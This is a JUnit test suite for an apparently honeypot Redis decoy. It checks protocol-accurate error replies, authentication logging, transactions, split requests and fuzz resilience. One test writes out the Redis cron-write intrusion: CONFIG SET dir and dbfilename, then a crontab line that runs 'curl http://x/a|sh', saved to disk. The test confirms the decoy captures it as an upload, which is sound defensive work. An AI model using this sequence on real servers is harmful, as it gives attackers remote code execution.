package decnet.decoys.redis;

import static org.assertj.core.api.Assertions.assertThat;

import decnet.decoys.DecoyContext;
import decnet.decoys.DialogueFactory;
import decnet.decoys.Fixtures;
import decnet.decoys.Script;
import decnet.topology.Decky;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RedisDialogueTest {
    private static DialogueFactory factory(String distribution, Map<String, String> options) {
        Decky decky = Fixtures.decky("[db]\narchetype = database-server\nservices = redis\ndistro = " + distribution);
        DecoyContext context = Fixtures.context(decky.persona(), options);
        return new RedisService().on(context);
    }

    private static final DialogueFactory SEVEN = factory("debian12", Map.of());

    /** Replies as captured from redis-server 7.0.15. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
        PING|+PONG
        GET|-ERR wrong number of arguments for 'get' command
        SET a b XX YY|-ERR syntax error
        FOO bar|-ERR unknown command 'FOO', with args beginning with: 'bar'` `
        CONFIG FOO|-ERR unknown subcommand 'FOO'. Try CONFIG HELP.
        CONFIG SET foo bar|-ERR Unknown option or number of arguments for CONFIG SET - 'foo'
        CONFIG SET dir /tmp|-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config
        CLIENT FOO|-ERR unknown subcommand 'FOO'. Try CLIENT HELP.
        COMMAND COUNT|:240
        MODULE LIST|*0
        SLAVEOF 127.0.0.1 abc|-ERR Invalid master port
        EVAL "return 1" 0|:1
        EXEC|-ERR EXEC without MULTI
        SELECT 99|-ERR DB index is out of range
        SCAN x|-ERR invalid cursor
        CLUSTER INFO|-ERR This instance has cluster support disabled
        HELLO 9|-NOPROTO unsupported protocol version
        AUTH a b|-WRONGPASS invalid username-password pair or user is disabled.
        AUTH x|-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?
        GET "a|-ERR Protocol error: unbalanced quotes in request
        *a|-ERR Protocol error: invalid multibulk length
        """)
    void anInlineCommandIsAnsweredAsTheRealServerDoes(String line, String reply) {
        String wanted = reply.replace("`", "");
        new Script(SEVEN)
                .send(line + "\r\n")
                .expect((line.startsWith("FOO") ? wanted.stripTrailing() + " " : wanted) + "\r\n");
    }

    @Test
    void everyConfigurationKeyIsThere() {
        assertThat(new Script(SEVEN).send("CONFIG GET *\r\n").said()).startsWith("*384\r\n");
    }

    @Test
    void keysAreKeptForTheNextVisitor() {
        DialogueFactory factory = factory("debian12", Map.of());

        new Script(factory)
                .send("*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$3\r\na\r\n\r\n")
                .expect("+OK\r\n");

        new Script(factory).send("GET x\r\n").expect("$3\r\na\r\n\r\n");
    }

    @Test
    void onlyThePersonasPasswordOpensAClosedServer() {
        Decky decky = Fixtures.decky("[db]\narchetype = database-server\nservices = redis\ndistro = debian12");
        DialogueFactory factory = new RedisService().on(Fixtures.context(decky.persona(), Map.of("auth", "password")));
        String password = decky.persona().serviceSecrets().get("redis");
        Script script = new Script(factory);

        script.send("GET a\r\n").expect("-NOAUTH Authentication required.\r\n");
        script.send("AUTH guess\r\n").expect("-WRONGPASS invalid username-password pair or user is disabled.\r\n");
        script.send("AUTH default \"" + password + "\"\r\n").expect("+OK\r\n");
        script.send("DBSIZE\r\n");

        assertThat(script.said()).startsWith(":");
        assertThat(script.events("login_attempt"))
                .extracting(seen ->
                        seen.fields().get("secret") + " " + seen.fields().get("outcome"))
                .containsExactly("guess rejected", password + " accepted");
    }

    @Test
    void aTransactionQueuesAndRuns() {
        new Script(SEVEN)
                .send("MULTI\r\nSET q 1\r\nINCR q\r\nEXEC\r\n")
                .expect("+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n:2\r\n")
                .send("MULTI\r\nNOPE\r\nEXEC\r\n")
                .expect("+OK\r\n-ERR unknown command 'NOPE', with args beginning with: \r\n"
                        + "-EXECABORT Transaction discarded because of previous errors.\r\n");
    }

    @Test
    void aFileWrittenBySaveIsAnUpload() {
        Script script = new Script(factory("ubuntu20", Map.of()));

        script.send("CONFIG SET dir /tmp\r\n"
                + "CONFIG SET dbfilename root\r\n"
                + "SET 1 \"\\n"
                + "* * * * * curl http://x/a|sh\\n"
                + "\"\r\n"
                + "SAVE\r\n");

        assertThat(script.events("file_upload")).singleElement().satisfies(seen -> {
            assertThat(seen.fields()).containsEntry("name", "/tmp/root").containsEntry("via", "redis");
            assertThat(new String(seen.content().orElseThrow().bytes(), java.nio.charset.StandardCharsets.ISO_8859_1))
                    .contains("\n* * * * * curl http://x/a|sh\n");
        });
    }

    @Test
    void anOlderVersionSpeaksItsOwnWords() {
        new Script(factory("ubuntu20", Map.of()))
                .send("FOO bar\r\nAUTH x\r\n")
                .expect("-ERR unknown command `FOO`, with args beginning with: `bar`, \r\n"
                        + "-ERR Client sent AUTH, but no password is set\r\n");
    }

    @Test
    void aRequestMayBeCutAnywhere() {
        String request = "*2\r\n$4\r\nECHO\r\n$5\r\nab\r\nc\r\nPING\r\n";
        for (int cut = 1; cut < request.length(); cut++) {
            Script script = new Script(SEVEN);
            script.send(request.substring(0, cut)).send(request.substring(cut)).expect("$5\r\nab\r\nc\r\n+PONG\r\n");
        }
    }

    @Test
    void anOverlongLineEndsTheConnection() {
        Script script = new Script(SEVEN);

        script.send("a".repeat(70_000));

        script.expect("-ERR Protocol error: too big inline request\r\n");
        assertThat(script.closed).isTrue();
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4})
    void randomInputBreaksNothing(long seed) {
        Script.fuzz(
                factory("debian12", Map.of()),
                seed,
                150,
                List.of(
                        "SET ",
                        "GET ",
                        "\r\n",
                        "*3\r\n",
                        "$3\r\n",
                        "CONFIG ",
                        "LPUSH a b\r\n",
                        "HSET h a b\r\n",
                        "a ",
                        "EVAL ",
                        "MULTI\r\n",
                        "EXEC\r\n",
                        "SCAN 0 MATCH ",
                        "HELLO 3\r\n",
                        "INFO\r\n",
                        "KEYS *\r\n",
                        "CLIENT ",
                        "SLAVEOF a 1\r\n",
                        "ROLE\r\n"));
    }
}
